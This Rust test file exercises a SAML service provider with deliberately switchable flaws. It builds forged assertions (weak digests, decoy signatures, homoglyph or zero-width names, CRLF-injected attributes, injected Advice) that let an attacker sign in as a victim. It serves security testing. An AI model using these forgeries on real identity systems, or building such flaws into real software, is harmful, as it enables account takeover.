//! Switches that make the service provider read, compare and count more loosely than the standards do.

use reference_sp::{Config, Flaw, ReferenceSp};
use saml::assertion::Attribute;
use saml::names::alg;

use crate::kit::browser::{Outcome, deliver};
use crate::kit::*;
use crate::switches::{exploit, lax};

/// A valid message of the attacker's that the hardened service provider reads right, and the switch as the victim's.
async fn misread(flaw: Flaw, message: impl Fn(&ReferenceSp) -> String) {
    let sp = hardened().await;
    deliver(&sp, &message(&sp)).await.is(ATTACKER);
    let sp = start(Config {
        flaws: flaw.into(),
        ..Config::default()
    })
    .await;
    deliver(&sp, &message(&sp)).await.is(VICTIM);
}

#[tokio::test]
async fn v08_takes_digests_that_are_broken() {
    for (method, digest) in [
        (alg::RSA_SHA1, alg::SHA1),
        (alg::RSA_SHA256, alg::SHA1),
        (alg::RSA_SHA1, alg::SHA256),
    ] {
        exploit(Flaw::WeakAlgorithms, ALICE, |sp| {
            sign_assertion_with(&response(sp, tenant(), ALICE).to_xml(), tenant(), |template| {
                template.method = method.to_owned();
                template.references[0].digest_method = digest.to_owned();
            })
        })
        .await;
    }
}

#[tokio::test]
async fn v10_digests_nothing() {
    exploit(Flaw::SigValueOnly, VICTIM, |sp| {
        flawless(sp, ATTACKER).replace(ATTACKER, VICTIM)
    })
    .await;
}

#[tokio::test]
async fn v15_takes_a_reference_to_everything() {
    for uri in ["", "#xpointer(/)"] {
        exploit(Flaw::LooseReferenceUri, ALICE, |sp| {
            sign_assertion_with(&response(sp, tenant(), ALICE).to_xml(), tenant(), |template| {
                template.references[0].uri = Some(uri.to_owned());
            })
        })
        .await;
    }
    exploit(Flaw::LooseReferenceUri, ALICE, |sp| {
        let xml = response(sp, tenant(), ALICE).to_xml();
        let pointer = format!("#xpointer(id('{}'))", id_after(&xml, "<Assertion"));
        sign_assertion_with(&xml, tenant(), |template| {
            template.references[0].uri = Some(pointer);
        })
    })
    .await;
}

#[tokio::test]
async fn v16_lets_the_last_reference_decide() {
    exploit(Flaw::MultiReference, ALICE, |sp| {
        sign_assertion_with(&response(sp, tenant(), ALICE).to_xml(), tenant(), |template| {
            let again = template.references[0].clone();
            template.references.push(again);
        })
    })
    .await;
}

#[tokio::test]
async fn v20_leaves_every_signature_out() {
    exploit(Flaw::GreedyEnveloped, ALICE, |sp| {
        let decoy = "<Signature xmlns=\"http://www.w3.org/2000/09/xmldsig#\">anything</Signature></Subject>";
        flawless(sp, ALICE).replace("</Subject>", decoy)
    })
    .await;
}

#[tokio::test]
async fn v30_takes_one_name_for_another() {
    for name in [
        VICTIM.to_uppercase().replace("CORP.EXAMPLE", "corp.example "),
        VICTIM.replacen('a', "\u{430}", 1),
        VICTIM.replacen('a', "a\u{200b}", 1),
        VICTIM.replacen('@', "+tag@", 1),
        format!("{ATTACKER};{VICTIM}"),
        format!("{VICTIM}{}x", " ".repeat(255)),
    ] {
        let sp = hardened().await;
        let hardened = deliver(&sp, &flawless(&sp, &name)).await;
        assert_ne!(hardened, Outcome::In(VICTIM.to_owned()), "{name}");
        sp.set_flaws(Flaw::LooseNames.into());
        deliver(&sp, &flawless(&sp, &name)).await.is(VICTIM);
    }
}

#[tokio::test]
async fn v36_reads_no_issuer() {
    lax(Flaw::IssuerUnbound, |m| {
        m.assertions[0].issuer.as_mut().unwrap().value.clear();
    })
    .await;
}

#[tokio::test]
async fn v57_believes_advice() {
    misread(Flaw::AdviceMerged, |sp| {
        let advice = format!(
            "</Conditions><Advice><Assertion ID=\"_advice\"><Subject><NameID>{VICTIM}</NameID></Subject></Assertion></Advice>"
        );
        let xml = response(sp, tenant(), ATTACKER).to_xml();
        sign_assertion(&xml.replace("</Conditions>", &advice), tenant())
    })
    .await;
}

#[tokio::test]
async fn v63_takes_an_attribute_for_the_name() {
    for (name, value) in [
        ("nameID", VICTIM.to_owned()),
        ("nickname", format!("x;nameID={VICTIM}")),
        ("nickname", format!("x\r\nnameid: {VICTIM}\r\n")),
    ] {
        misread(Flaw::AttrMerge, |sp| {
            let mut message = response(sp, tenant(), ATTACKER);
            message.assertions[0].attributes.push(Attribute {
                name: name.to_owned(),
                name_format: None,
                values: vec![value.clone()],
            });
            sign_assertion(&message.to_xml(), tenant())
        })
        .await;
    }
}
